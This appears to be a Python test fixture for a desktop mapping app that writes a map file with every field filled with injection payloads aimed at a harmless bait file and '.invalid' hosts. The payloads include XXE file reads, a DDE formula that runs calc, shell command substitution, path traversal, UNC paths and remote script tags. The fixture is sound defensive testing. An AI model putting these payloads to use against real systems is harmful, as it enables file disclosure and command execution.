"""A map that wants to get at a file, another machine or a program, by every field that it has.

Whatever it names has `BAIT` in its name, so that a list of what was opened tells.
"""

import json
from base64 import b64encode
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import PIL.Image

from cjm_desktop.paths import resource

BAIT = "bait-5d1c"

_SAMPLE = resource("samples", "bouncy-ball-machine.cjm")
_SHORT = frozenset(
    [
        "title",
        "name",
        "label",
        "unit",
        "channel",
        "owner",
        "resources",
        "audience",
        "client",
        "scope",
        "company",
    ]
)
_LONG = frozenset(["notes", "description", "goal", "purpose", "quote", "background"])
_LISTS = frozenset(
    [
        "authors",
        "tags",
        "goals",
        "drivers",
        "challenges",
        "knowledge_needs",
        "sources",
        "responsibilities",
    ]
)


def bait_in(folder: Path) -> Path:
    """Lay a picture out that nobody has a reason to open."""
    place = folder / BAIT
    place.mkdir()
    PIL.Image.new("RGB", (20, 20), "red").save(place / "seen.png")
    return place / "seen.png"


def _texts(bait: Path) -> tuple[str, ...]:
    return (
        f'<img src="file://{bait}">',
        f'<img src="{bait}"/>',
        f'<a href="file://{bait}">x</a>',
        f"![x]({bait})",
        str(bait),
        f"file://{bait}",
        f"\\\\{BAIT}.invalid\\share\\x.png",
        f"//{BAIT}.invalid/share/x.png",
        f'<link rel="stylesheet" href="http://{BAIT}.invalid/x.css">',
        f'<style>@import url("{bait}");</style><body background="{bait}">',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait}">]><x>&e;</x>',
        f'<para><img src="{bait}" width="9" height="9"/></para>',
        f"=HYPERLINK(\"http://{BAIT}.invalid/\"&A1)|cmd|' /C calc'!A0",
        f"$(touch {bait}.made) `touch {bait}.made`; touch {bait}.made",
        f"../../../../../../../..{bait}",
        f"%s {{0.__class__}} <script src='http://{BAIT}.invalid/'></script>",
    )


def _pictures(bait: Path) -> tuple[bytes, ...]:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="9" height="9"><image width="9" height="9" xlink:href="{bait}"/></svg>'
    )
    return (
        svg.encode(),
        f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file://{bait}">]>'.encode()
        + svg.replace("</svg>", "<text>&e;</text></svg>").encode(),
        f'<html><img src="file://{bait}"></html>'.encode(),
        f'#define x_width 9\n#include "{bait}"\n'.encode(),
        f"%!PS\n({bait}) (r) file\n".encode(),
        b"\x89PNG\r\n\x1a\n" + svg.encode(),
        b"\xff\xd8\xff\xe1" + str(bait).encode(),
        f"<!-- {bait} -->{svg}".encode(),
    )


def write_hostile_map(path: Path, bait: Path) -> None:
    """Write the sample with all its texts, pictures, links and remarks made into bait."""
    content = json.loads(_SAMPLE.read_bytes())
    texts, pictures = cycle(_texts(bait)), _pictures(bait)
    for record in _records(content):
        record.update(_spoiled(record, texts))
        record["meta"] = {next(texts)[:200]: next(texts), "path": str(bait)}
    content["assets"] = {
        f"x{number}": {
            "name": str(bait),
            "media_type": "image/jpeg" if number == 6 else "image/png",
            "data": b64encode(data).decode(),
        }
        for number, data in enumerate(pictures)
    }
    assets = cycle(content["assets"])
    content["map"]["logo"] = next(assets)
    for persona in content["personas"].values():
        persona["portrait"] = next(assets)
    for card in content["cards"].values():
        card["image"] = next(assets)
        card["links"] = [f"http://{BAIT}.invalid/x", f"mailto:x@{BAIT}.invalid?attach={bait}"]
    path.write_text(json.dumps(content), encoding="utf-8")


def _records(content: dict[str, Any]) -> Iterator[dict[str, Any]]:
    yield content["map"]
    for kind in ("phases", "lanes", "personas", "cards", "handoffs", "kpis"):
        yield from content[kind].values()


def _spoiled(record: dict[str, Any], texts: Iterator[str]) -> dict[str, Any]:
    spoiled: dict[str, Any] = {}
    for name in record:
        if name in _SHORT:
            spoiled[name] = next(texts)[:200]
        elif name in _LONG:
            spoiled[name] = "\n".join(next(texts) for _ in range(4))
        elif name in _LISTS:
            spoiled[name] = [next(texts)[:60] for _ in range(3)]
    return spoiled
